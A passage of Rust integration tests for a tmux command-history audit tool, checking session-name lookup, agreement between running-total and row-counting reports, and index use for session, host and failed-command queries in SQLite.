    assert_eq!(numbers.len(), 40_000);
    assert!(rows
        .iter()
        .all(|l| l.chars().count() == rows[0].chars().count()));
    // The temporary file had no name; nothing is left behind.
    assert_eq!(std::fs::read_dir(&tmp).unwrap().count(), 0);
}

#[test]
fn session_names_are_looked_up_in_the_running_tmux_server() {
    let sb = Sandbox::new();
    let (tmux, pane) = Tmux::start(&sb, &sb.shell(Shell::Bash, &Rc::default()));
    pane.ready();
    tmux.run(&["rename-session", "-t", "$0", "work"]);
    pane.line("echo in-work");
    sb.wait_rows("the record", |rows| rows.len() == 1);
    let out_file = sb.path().join("out");
    pane.line(&format!(
        "'{}' search --session work --format cmd > {}; echo DONE-'1'",
        sb.bin.display(),
        out_file.display()
    ));
    pane.wait_for("DONE-1", 1);
    assert_eq!(
        std::fs::read_to_string(&out_file).unwrap(),
        "echo in-work\n"
    );
    pane.line(&format!(
        "'{}' search --session nosuch > {} 2>&1; echo DONE-'2'",
        sb.bin.display(),
        out_file.display()
    ));
    pane.wait_for("DONE-2", 1);
    let err = std::fs::read_to_string(&out_file).unwrap();
    assert!(err.contains("no tmux session named \"nosuch\""), "{err}");
}

/// A report over the whole history reads running totals; one with a filter
/// that keeps every row counts the rows. Both must agree, after more records
/// (folded in), and after the newest rows are deleted (the totals notice
/// and count again).
#[test]
fn whole_history_reports_from_running_totals_match_counting_every_row() {
    let sb = history();
    let report = |by: &str, filtered: bool| -> serde_json::Value {
        let mut args = vec!["--by", by, "--format", "json"];
        if filtered {
            args.extend(["--since", "1970-01-02"]);
        }
        let out = report(&sb, &args);
        assert!(out.status.success(), "{out:?}");
        serde_json::from_slice(&out.stdout).unwrap()
    };
    let agree = |when: &str| {
        for by in ["pane", "user", "host", "cwd", "command"] {
            assert_eq!(report(by, false), report(by, true), "--by {by}, {when}");
        }
    };
    agree("at first");
    for (seq, command) in [(3, "git status"), (4, "make test"), (5, "cargo build")] {
        record(
            &sb,
            Rec {
                command: command.as_bytes(),
                session: "b1",
                seq,
                exit: seq % 2,
                start: T0 + (20 + seq) * MINUTE,
                duration: 1000,
                cwd: "/srv/web",
                pane: Some("%2"),
            },
        );
    }
    agree("after more records");
    let commands = report("command", false);
    assert!(commands.to_string().contains("cargo build"), "{commands}");
    assert!(sb.flush());
    rusqlite::Connection::open(&sb.db)
        .unwrap()
        .execute(
            "DELETE FROM commands WHERE id >= (SELECT max(id) - 1 FROM commands)",
            [],
        )
        .unwrap();
    agree("after the newest rows were deleted");
    assert!(!report("command", false).to_string().contains("cargo build"));
}

/// The picker's session and host scopes (and `--session`, `--host`) ask
/// for the newest commands of one tmux session or host, and `--failed`
/// for failures: SQLite answers through an index, not by reading every
/// row (at a million rows, a session with no commands took 1.5 s to find
/// out).
#[test]
fn the_newest_commands_of_a_session_a_host_or_failures_are_found_through_an_index() {
    let sb = Sandbox::new();
    assert!(sb.record_numbered("1", "true").status.success());
    assert!(sb.flush());
    let conn = rusqlite::Connection::open(&sb.db).unwrap();
    let plan = |condition: &str| -> String {
        let sql = format!(
            "EXPLAIN QUERY PLAN SELECT id FROM commands WHERE {condition}
             ORDER BY started_at_us DESC, id DESC LIMIT 70"
        );
        let mut stmt = conn.prepare(&sql).unwrap();
        let rows = stmt
            .query_map([], |r| r.get::<_, String>(3))
            .unwrap()
            .map(Result::unwrap)
            .collect::<Vec<_>>();
        rows.join("; ")
    };
    let session = plan("tmux_socket = '/s' AND tmux_server_pid = 1 AND tmux_session_id = 3");
    assert!(
        session.contains("INDEX commands_by_tmux_session"),
        "{session}"
    );
    let host = plan("host = 'web1'");
    assert!(host.contains("INDEX commands_by_host"), "{host}");
    // `--failed`, as the filter writes it (schema 23).
    let failed = tmux_audit::filter::Filters {
        failed: true,
        ..Default::default()
    }
    .conditions()
    .unwrap()
    .clauses
    .join(" AND ");
    let failed = plan(&failed);
    assert!(failed.contains("INDEX commands_failed"), "{failed}");
}
